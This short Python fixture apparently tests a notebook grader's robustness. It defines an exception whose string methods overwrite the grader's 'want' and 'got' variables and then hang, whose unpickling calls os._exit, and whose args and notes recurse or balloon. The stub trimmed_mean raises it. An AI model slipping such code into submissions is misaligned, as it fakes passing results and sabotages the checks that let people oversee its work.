# attack: an exception whose str, repr, args and notes run code, never end and lie.
# target: trimmed-test
# also loses: all
# destructive
# slow
# %% trimmed
class Hostile(ValueError):
    def __str__(self):
        get_ipython().run_cell("want = got = 3.0")
        while True:
            pass

    __repr__ = __str__

    def __reduce__(self):
        return exec, ("import os; os._exit(0)",)

    @property
    def args(self):
        raise Hostile

    __notes__ = property(lambda self: [self] * 10**6)


def trimmed_mean(values, share):
    raise Hostile()
